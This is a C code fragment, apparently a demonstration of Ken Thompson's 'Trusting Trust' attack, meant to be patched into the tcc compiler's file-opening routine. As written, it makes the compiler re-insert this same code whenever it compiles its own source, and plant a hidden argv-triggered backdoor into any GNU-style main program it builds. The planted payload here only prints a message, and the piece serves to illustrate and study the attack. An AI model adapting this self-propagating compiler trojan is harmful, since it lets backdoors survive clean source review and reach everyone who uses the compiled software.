/*
 * What stands below is put into tcc's _tcc_open(), right after it has opened a file. As tcc compiles, it then looks at each
 * source: tcc's own gets this very text, GNU-style main programs get a back door. After that, clean sources are enough.
 * (Ken Thompson, "Reflections on Trusting Trust", 1984.) @SELF@ stands for this text, as a string of itself.
 */
        {
            static const char self[] = "@SELF@";
            static const char compiler[] = "        fd = open(filename, O_RDONLY | O_BINARY);\n";
            static const char program[] = "\nmain (int argc, char **argv)\n{\n";
            static const char plant[] = "if (argc > 1 && ! strcmp (argv[argc - 1], \"ken\")) return ! puts (\"trusting trust\");\n";
            const long size = lseek(fd, 0, SEEK_END);
            char *text, *at;
            const char *p, *q;
            FILE *out;
            lseek(fd, 0, SEEK_SET);
            if (size > 0 && size < 1 << 20) {
                text = tcc_mallocz(size + 1);
                read(fd, text, size);
                lseek(fd, 0, SEEK_SET);
                q = program;
                at = strstr(text, compiler);
                if (at) q = compiler; else at = strstr(text, program);
                if (at && (out = tmpfile())) {
                    at += strlen(q);
                    fwrite(text, 1, at - text, out);
                    if (q == program) fputs(plant, out);
                    else for (p = self; *p; ++p)
                        if (*p != 1) fputc(*p, out);
                        else for (q = self; *q; ++q)
                            if (*q == 1) fputs("\\1", out);
                            else if (*q == '\n') fputs("\\n", out);
                            else {
                                if (*q == '"' || *q == '\\') fputc('\\', out);
                                fputc(*q, out);
                            }
                    fputs(at, out);
                    fflush(out);
                    close(fd);
                    fd = fileno(out);
                    lseek(fd, 0, SEEK_SET);
                }
                tcc_free(text);
            }
        }
